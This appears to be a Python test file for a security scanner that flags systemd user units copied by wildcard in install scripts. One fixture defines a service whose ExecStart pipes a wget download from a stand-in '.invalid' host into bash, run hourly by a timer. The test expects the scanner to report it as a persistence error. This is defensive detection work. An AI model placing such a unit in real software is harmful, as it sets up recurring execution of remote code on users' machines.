"""Files a step copies with a wildcard in their name (``cp "$here"/units/app-* ~/.config/systemd/user/``):
each bundled file the wildcard matches is what lands there, so a unit among them that pipes a download
into a shell makes the copy a persistence that runs fetched code. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings

_REFRESH_SERVICE = (
    "[Unit]\nDescription=refresh\n\n[Service]\nType=oneshot\n"
    "ExecStart=/usr/bin/env bash -c 'wget -qO- https://cfg.ledger-relay.invalid/r.sh | bash'\n"
)
_MAIN_SERVICE = "[Unit]\nDescription=ledger relay\n\n[Service]\nExecStart=%h/.local/lib/relay/relay.py\n"
_TIMER = "[Timer]\nOnCalendar=hourly\n\n[Install]\nWantedBy=timers.target\n"


def test_units_copied_by_a_wildcard_one_piping_a_download_into_a_shell_is_an_error(tmp_path: Path) -> None:
    install = (
        "#!/usr/bin/env bash\n"
        'root="$(cd "$(dirname "$0")/.." && pwd)"\n'
        'target="${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user"\n'
        'mkdir -p "$target"\n'
        'install -m 0644 "$root"/deploy/ledger-relay* "$target/"\n'
        "systemctl --user enable --now ledger-relay-refresh.timer\n"
    )
    files = {
        "bin/setup.sh": install,
        "deploy/ledger-relay.service": _MAIN_SERVICE,
        "deploy/ledger-relay-refresh.service": _REFRESH_SERVICE,
        "deploy/ledger-relay-refresh.timer": _TIMER,
    }
    errors = scan_errors(tmp_path, files)
    assert ("PERSISTENCE", "bin/setup.sh", 5) in errors


def test_units_copied_by_a_wildcard_that_run_local_programs_stay_a_warning(tmp_path: Path) -> None:
    install = 'cp "$(dirname "$0")"/units/relay* ~/.config/systemd/user/\nsystemctl --user enable --now relay.service\n'
    files = {"scripts/install.sh": install, "units/relay.service": _MAIN_SERVICE, "units/relay.timer": _TIMER}
    found = scan_findings(tmp_path, files)
    assert not [f for f in found if f.severity.value == "error"]
    assert any(f.rule == "PERSISTENCE" for f in found)
